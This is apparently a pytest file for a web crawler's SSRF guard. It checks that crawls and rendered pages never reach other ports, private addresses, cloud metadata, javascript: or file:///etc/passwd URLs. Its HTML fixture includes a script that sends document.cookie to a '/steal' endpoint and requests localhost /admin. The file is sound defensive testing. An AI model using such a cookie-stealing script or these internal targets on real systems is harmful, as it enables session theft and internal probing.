"""Bounded reach: a crawl requests only its source's host and port (and the hosts a source
lists); never a private or loopback address unless the source's own URL is one. Tested with
local servers on other ports of 127.0.0.1."""

from __future__ import annotations

import json
import shutil
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
import sqlite_utils

from groundswell.crawl.reach import Reach, abort_unreachable
from tests.conftest import groundswell, write_config


@pytest.mark.parametrize(
    ("source", "allowed", "url", "allowed_to"),
    [
        ("https://forum.example/t/1", [], "https://forum.example/t/2", True),
        ("https://forum.example/t/1", [], "https://forum.example:8443/t/2", False),
        ("https://forum.example/t/1", [], "http://forum.example/t/2", False),  # port 80
        ("https://forum.example/t/1", [], "https://cdn.forum.example/x", False),
        ("https://forum.example/t/1", ["cdn.forum.example"], "https://cdn.forum.example/x", True),
        ("https://forum.example/t/1", ["api.example:8080"], "http://api.example:8080/x", True),
        ("https://forum.example/t/1", ["api.example:8080"], "http://api.example:8081/x", False),
        ("https://forum.example/t/1", [], "http://127.0.0.1/admin", False),
        ("https://forum.example/t/1", [], "http://localhost:6379/", False),
        ("https://forum.example/t/1", [], "http://169.254.169.254/latest/meta-data", False),
        ("https://forum.example/t/1", [], "http://10.0.0.5/", False),
        ("https://forum.example/t/1", ["10.0.0.5"], "http://10.0.0.5/", False),  # never
        ("http://127.0.0.1:8000/f", [], "http://127.0.0.1:8000/t/2", True),
        ("http://127.0.0.1:8000/f", [], "http://127.0.0.1:8001/t/2", False),
        ("http://127.0.0.1:8000/f", [], "http://localhost:8000/t/2", False),
        ("https://forum.example/t/1", [], "javascript:alert(1)", False),
        ("https://forum.example/t/1", [], "file:///etc/passwd", False),
    ],
)
def test_reach(source, allowed, url, allowed_to):
    assert Reach.for_source(source, allowed).allows(url) is allowed_to


FAKE_DNS = {
    "cdn.forum.example": "93.184.216.34",
    "intranet.forum.example": "10.0.0.7",
    "metadata.forum.example": "169.254.169.254",
    "twofaced.example": "192.168.1.2",
}


@pytest.fixture
def fake_dns(monkeypatch):
    """Names resolve as in FAKE_DNS (twofaced.example: one public and one private address)."""
    import socket

    from groundswell.crawl import reach

    def getaddrinfo(host, port, *args, **kwargs):
        if host not in FAKE_DNS:
            raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")
        addresses = [FAKE_DNS[host]] + (["93.184.216.35"] if host == "twofaced.example" else [])
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (a, port or 0)) for a in addresses]

    monkeypatch.setattr(reach.socket, "getaddrinfo", getaddrinfo)
    reach.resolves_private.cache_clear()
    yield
    reach.resolves_private.cache_clear()


@pytest.mark.parametrize(
    ("listed", "url", "allowed_to"),
    [
        ("cdn.forum.example", "https://cdn.forum.example/x", True),  # a public address
        ("intranet.forum.example", "https://intranet.forum.example/x", False),  # 10.x
        ("metadata.forum.example", "http://metadata.forum.example/", False),  # link-local
        ("twofaced.example", "https://twofaced.example/", False),  # any private address
        ("nowhere.example", "https://nowhere.example/", True),  # unresolvable: fails at DNS
    ],
)
def test_a_listed_name_that_resolves_to_a_private_address_is_refused(
    fake_dns, listed, url, allowed_to
):
    assert Reach.for_source("https://forum.example/t/1", [listed]).allows(url) is allowed_to


def test_the_sources_own_name_may_resolve_privately(fake_dns):
    reach = Reach.for_source("https://intranet.forum.example/c/1")  # a company's own forum
    assert reach.allows("https://intranet.forum.example/t/2")
    assert not reach.allows("https://metadata.forum.example/")


def test_a_rendered_page_aborts_its_scripts_requests_outside_the_reach():
    should_abort = abort_unreachable(Reach.for_source("http://127.0.0.1:8000/page"))
    request = type("Request", (), {})
    for url, aborted in [("http://127.0.0.1:8000/app.js", False), ("data:image/png;base64,x", False),
                         ("http://127.0.0.1:8001/steal", True), ("https://tracker.example/p", True)]:  # fmt: skip
        request.url = url
        assert should_abort(request) is aborted, url


class CountingHandler(BaseHTTPRequestHandler):
    """The other server: counts every request it gets."""

    hits: list[str]

    def do_GET(self):  # noqa: N802
        self.hits.append(self.path)
        body = b'{"kind": "Listing", "data": {"children": []}}'
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


class SourceHandler(CountingHandler):
    """The source's server: a Reddit-shaped listing whose posts link to the other server, and a
    page that redirects there."""

    other: str

    def do_GET(self):  # noqa: N802
        self.hits.append(self.path)
        if self.path.startswith("/moved.json"):
            self.send_response(302)
            self.send_header("Location", f"{self.other}/r/acme/new.json")
            self.end_headers()
            return
        if not self.path.startswith("/r/acme/new.json"):
            self.send_response(404)
            self.end_headers()
            return
        children = [{"kind": "t3", "data": {
            "id": i, "name": f"t3_{i}", "title": f"Post {i} about Acme", "selftext": "Any good?",
            "author": "someone", "created_utc": 1700000000, "num_comments": 3, "subreddit": "acme",
            "permalink": f"{self.other}/r/acme/comments/{i}/post/" if i == "a" else
                         f"/r/acme/comments/{i}/post/"}} for i in ("a", "b")]  # fmt: skip
        body = json.dumps({"kind": "Listing", "data": {"after": None, "children": children}})
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.end_headers()
        self.wfile.write(body.encode())


def serve(handler) -> tuple[ThreadingHTTPServer, str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, f"http://127.0.0.1:{server.server_address[1]}"


def test_a_crawl_never_requests_another_port_of_its_host(tmp_path):
    other_hits: list[str] = []
    other, other_url = serve(type("Other", (CountingHandler,), {"hits": other_hits}))
    source_hits: list[str] = []
    handler = type("Source", (SourceHandler,), {"hits": source_hits, "other": other_url})
    source, source_url = serve(handler)
    sources = [{"name": "listing", "kind": "reddit", "url": f"{source_url}/r/acme/new.json"},
               {"name": "moved", "kind": "reddit", "url": f"{source_url}/moved.json"}]  # fmt: skip
    config = write_config(tmp_path / "g.toml", sources, extra="obey_robots = false")
    try:
        groundswell("crawl", "--config", str(config), "--db", str(tmp_path / "g.db"))
    finally:
        source.shutdown()
        other.shutdown()
    assert other_hits == []  # not a link, not a redirect reached the other port
    db = sqlite_utils.Database(tmp_path / "g.db")
    assert db["mentions"].count == 2  # the listing itself was read
    assert any(p.startswith("/r/acme/comments/b/") for p in source_hits)  # own links followed
    runs = {r["source"]: r for r in db["crawl_runs"].rows}
    assert other_url in runs["moved"]["message"]


RENDERED_PAGE = """<!doctype html>
<html><head><meta charset="utf-8"><title>Acme reviews</title>
<img src="{other}/pixel.gif"><link rel="stylesheet" href="{other}/style.css"></head>
<body>
<div itemscope itemtype="https://schema.org/Review">
  <span itemprop="author" itemscope itemtype="https://schema.org/Person">
    <span itemprop="name">Dana</span></span>
  <meta itemprop="datePublished" content="2025-01-05">
  <p itemprop="reviewBody">Support never answered my ticket.</p>
</div>
<script>
fetch("{other}/steal?cookie=" + document.cookie).catch(() => {{}});
fetch("http://localhost:{other_port}/admin").catch(() => {{}});
</script>
</body></html>
"""


@pytest.mark.browser
def test_a_rendered_page_cannot_make_the_browser_request_another_port(tmp_path, replay):
    if shutil.which("chromium") is None:
        pytest.skip("Debian's chromium is not installed (scripts/install-browser.sh installs it)")
    other_hits: list[str] = []
    other, other_url = serve(type("Other", (CountingHandler,), {"hits": other_hits}))
    root, base = replay
    page = RENDERED_PAGE.format(other=other_url, other_port=other.server_address[1])
    (root / "reviews.html").write_text(page, encoding="utf-8")
    source = {"name": "rendered", "kind": "schema_org", "url": f"{base}/reviews.html",
              "render": True}  # fmt: skip
    config = write_config(tmp_path / "g.toml", [source])
    try:
        result = groundswell("crawl", "--config", str(config), "--db", str(tmp_path / "g.db"))
    finally:
        other.shutdown()
    assert result.returncode == 0, result.stderr
    assert other_hits == []
    assert sqlite_utils.Database(tmp_path / "g.db")["mentions"].count == 1
